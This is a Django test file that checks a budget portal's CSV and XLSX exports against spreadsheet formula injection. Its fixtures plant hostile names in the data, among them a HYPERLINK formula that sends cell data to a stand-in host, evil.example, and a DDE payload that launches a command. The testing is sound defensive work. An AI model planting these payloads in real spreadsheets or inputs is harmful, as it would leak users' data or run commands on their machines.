"""Formula injection: a run name or gemeente name that starts with =, +, -, @ must stay text
in every CSV and XLSX export."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from budgets import reports
from budgets.demo import DEMO_RUN_NAME, OFFICIAL_RUN_NAME
from budgets.models import AllocationRun
from regions.models import Municipality
from spukportal.exports import escape_cell

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


@pytest.fixture
def hostile_names():
    run = AllocationRun.objects.get(name=DEMO_RUN_NAME)
    run.name = HOSTILE
    run.save(update_fields=["name"])
    Municipality.objects.filter(cbs_code="GM0034").update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    Municipality.objects.filter(cbs_code="GM0014").update(name="+31 Groningen")
    return run


@pytest.mark.parametrize("value,expected", [
    ("=1+2", "'=1+2"), ("+31 Groningen", "'+31 Groningen"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("Almere", "Almere"), ("-12.50", "-12.50"), (-5, -5), (12, 12), (None, None),
])
def test_escape_cell(value, expected):
    assert escape_cell(value) == expected


def test_xlsx_report_has_no_live_formula(hostile_names):
    workbook = load_workbook(io.BytesIO(reports.render_xlsx(hostile_names)))
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert "'" + HOSTILE in values and "'@SUM(1+1)*cmd|' /C calc'!A0" in values and "'+31 Groningen" in values
    amounts = [c.value for c in workbook["Toekenningen"]["E"][1:]]
    assert amounts and all(isinstance(a, int) for a in amounts)  # numbers stay numbers


def test_csv_report_escapes_names(hostile_names):
    rows = list(csv.reader(io.StringIO(reports.render_csv(hostile_names).decode("utf-8-sig")), delimiter=";"))
    names = {r[1] for r in rows[1:]}
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in names and "'+31 Groningen" in names
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)


def test_comparison_csv_escapes_names_but_keeps_negative_percentages(hostile_names, login):
    client = login("ministerie")
    official = AllocationRun.objects.get(name=OFFICIAL_RUN_NAME)
    response = client.get(reverse("budgets:compare"), {"a": official.pk, "b": hostile_names.pk, "year": 2025,
                                                       "export": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    almere = next(r for r in rows if r[0] == "GM0034")
    assert almere[1] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)


def test_every_csv_download_is_in_the_dialect_dutch_excel_opens(hostile_names, login):
    """A byte order mark, semicolons, decimal commas: the comparison's percentages as 4,05, not 4.05."""
    client = login("ministerie")
    official = AllocationRun.objects.get(name=OFFICIAL_RUN_NAME)
    comparison = client.get(reverse("budgets:compare"), {"a": official.pk, "b": hostile_names.pk, "year": 2025,
                                                         "export": "csv"}).content
    report = reports.render_csv(hostile_names)
    for content in (comparison, report):
        assert content.startswith("\ufeff".encode()) and content.decode("utf-8-sig").split("\r\n")[0].count(";") >= 4
    rows = list(csv.DictReader(io.StringIO(comparison.decode("utf-8-sig")), delimiter=";"))
    percentages = [r["verschil_procent"] for r in rows if r["verschil_procent"] not in ("", "0", "0,00")]
    assert percentages and all("." not in p for p in percentages) and any("," in p for p in percentages)
